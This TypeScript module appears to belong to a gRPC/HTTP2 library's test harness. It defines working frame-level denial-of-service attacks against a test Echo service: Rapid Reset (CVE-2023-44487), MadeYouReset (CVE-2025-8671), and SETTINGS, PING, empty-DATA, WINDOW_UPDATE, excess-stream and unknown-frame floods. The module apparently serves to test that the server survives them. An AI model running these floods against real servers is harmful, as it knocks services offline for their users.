/**
 * Attacks by frames: floods, and streams that are opened to be reset.
 *
 * @module
 */

import { Flag, frame, FrameType, uint32 } from "../../_testdata/raw_frames.ts";
import type { Attack, Means } from "../attack.ts";
import {
  concat,
  headersFrames,
  type RawPeer,
  requestBlock,
  settingsFrame,
} from "../raw_peer.ts";

const BLOCK = requestBlock("/grpclib.test.Echo/Bidi", { "x-do": "hang" });

const CANCEL = 8;

/** Sends frames as fast as they go, until the connection ends. */
async function flood(
  { goesOn }: Means,
  peer: RawPeer,
  make: () => Uint8Array,
): Promise<string> {
  let sent = 0;
  const send = async (): Promise<void> => {
    while (goesOn() && !peer.isClosed) {
      const some = Array.from({ length: 200 }, make);
      await peer.write(concat(some));
      sent += 200;
    }
  };
  const over = async (): Promise<void> => {
    while (goesOn() && !peer.isClosed) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  await Promise.race([send(), over()]);
  return `${sent} sent`;
}

/** Streams that are opened and reset at once: CVE-2023-44487. */
async function rapidReset(means: Means): Promise<string> {
  const peer = await means.open();
  return await flood(means, peer, () => {
    const streamId = peer.newStream();
    return concat([
      headersFrames(streamId, BLOCK),
      frame(FrameType.RST_STREAM, { streamId }, uint32(CANCEL)),
    ]);
  });
}

/** Streams that the server is made to reset: CVE-2025-8671. */
async function madeYouReset(means: Means): Promise<string> {
  const peer = await means.open();
  return await flood(means, peer, () => {
    const streamId = peer.newStream();
    return concat([
      headersFrames(streamId, BLOCK),
      frame(FrameType.WINDOW_UPDATE, { streamId }, uint32(0)),
    ]);
  });
}

/** One frame again and again. */
function floodOf(
  one: Uint8Array,
  options: { readonly reads?: boolean } = {},
) {
  return async (means: Means): Promise<string> => {
    const peer = await means.open(options);
    return await flood(means, peer, () => one);
  };
}

/** Frames on a stream that is open. */
function floodOfStream(make: (streamId: number) => Uint8Array) {
  return async (means: Means): Promise<string> => {
    const peer = await means.open();
    const streamId = peer.newStream();
    await peer.write(headersFrames(streamId, BLOCK));
    const one = make(streamId);
    return await flood(means, peer, () => one);
  };
}

/** Streams beyond the number that is allowed. */
async function tooManyStreams(means: Means): Promise<string> {
  const peer = await means.open();
  return await flood(means, peer, () => headersFrames(peer.newStream(), BLOCK));
}

const PING = frame(FrameType.PING, {}, new Uint8Array(8));

/** The attacks by frames. */
export const FRAME_ATTACKS: readonly Attack[] = [
  {
    name: "rapid-reset",
    what: "streams opened and reset (CVE-2023-44487)",
    seconds: 6,
    shortSeconds: 1,
    ends: true,
    run: rapidReset,
  },
  {
    name: "made-you-reset",
    what: "streams that the server resets (CVE-2025-8671)",
    seconds: 6,
    ends: true,
    run: madeYouReset,
  },
  {
    name: "too-many-streams",
    what: "streams beyond `maxConcurrentStreams`",
    seconds: 6,
    run: tooManyStreams,
  },
  {
    name: "settings",
    what: "SETTINGS as fast as they go (CVE-2019-9515)",
    seconds: 6,
    ends: true,
    run: floodOf(settingsFrame([[4, 65_535]])),
  },
  {
    name: "settings-unread",
    what: "the same, acknowledgements not read",
    seconds: 6,
    ends: true,
    run: floodOf(settingsFrame([[4, 65_535]]), { reads: false }),
  },
  {
    name: "ping",
    what: "PINGs as fast as they go (CVE-2019-9512)",
    seconds: 6,
    ends: true,
    run: floodOf(PING),
  },
  {
    name: "ping-unread",
    what: "the same, acknowledgements not read",
    seconds: 6,
    ends: true,
    run: floodOf(PING, { reads: false }),
  },
  {
    name: "window-updates",
    what: "WINDOW_UPDATE of 1 byte on a stream",
    seconds: 6,
    ends: "native",
    run: floodOfStream((streamId) =>
      frame(FrameType.WINDOW_UPDATE, { streamId }, uint32(1))
    ),
  },
  {
    name: "empty-data",
    what: "DATA without bytes (CVE-2019-9518)",
    seconds: 6,
    ends: true,
    run: floodOfStream((streamId) => frame(FrameType.DATA, { streamId })),
  },
  {
    name: "unknown-frames",
    what: "frames of a type that nobody knows",
    seconds: 6,
    ends: true,
    run: floodOf(frame(0xbe, { flags: Flag.ACK }, new Uint8Array(8))),
  },
];
